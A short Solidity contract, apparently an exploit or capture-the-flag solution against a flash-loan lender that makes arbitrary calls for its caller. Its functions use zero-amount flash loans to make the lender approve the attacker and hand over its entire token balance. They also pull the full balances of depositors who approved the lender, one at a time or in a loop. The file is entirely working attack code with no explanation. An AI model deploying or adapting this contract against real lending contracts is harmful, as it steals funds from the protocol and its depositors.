// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface ILender {
    function flashLoan(uint256 amount, address borrower, address target, bytes calldata data) external;

    function flashLoanVia(
        uint256 amount,
        address borrower,
        address[2] calldata targets,
        bytes[2] calldata data
    ) external;
}

interface IToken {
    function approve(address spender, uint256 value) external returns (bool);

    function transferFrom(address from, address to, uint256 value) external returns (bool);

    function balanceOf(address account) external view returns (uint256);
}

/// Lets the lender speak to its own token.
contract LenderPuppeteer {
    function run(ILender lender, IToken token, address depositor) external {
        lender.flashLoan(0, address(this), address(token), abi.encodeCall(IToken.approve, (address(this), type(uint256).max)));
        token.transferFrom(address(lender), msg.sender, token.balanceOf(address(lender)));
        takeFrom(lender, token, depositor);
    }

    function runOnDepositors(ILender lender, IToken token, address[] calldata depositors) external {
        for (uint256 i = 0; i < depositors.length; i++) takeFrom(lender, token, depositors[i]);
    }

    function runVia(ILender lender, IToken token, uint256 amount) external {
        bytes memory approval = abi.encodeCall(IToken.approve, (address(this), amount));
        bytes memory nothing = abi.encodeCall(IToken.balanceOf, (address(this)));
        lender.flashLoanVia(1, address(lender), [address(token), address(token)], [nothing, approval]);
        token.transferFrom(address(lender), msg.sender, amount);
    }

    function takeFrom(ILender lender, IToken token, address depositor) private {
        bytes memory taking = abi.encodeCall(IToken.transferFrom, (depositor, msg.sender, token.balanceOf(depositor)));
        lender.flashLoan(0, address(this), address(token), taking);
    }
}
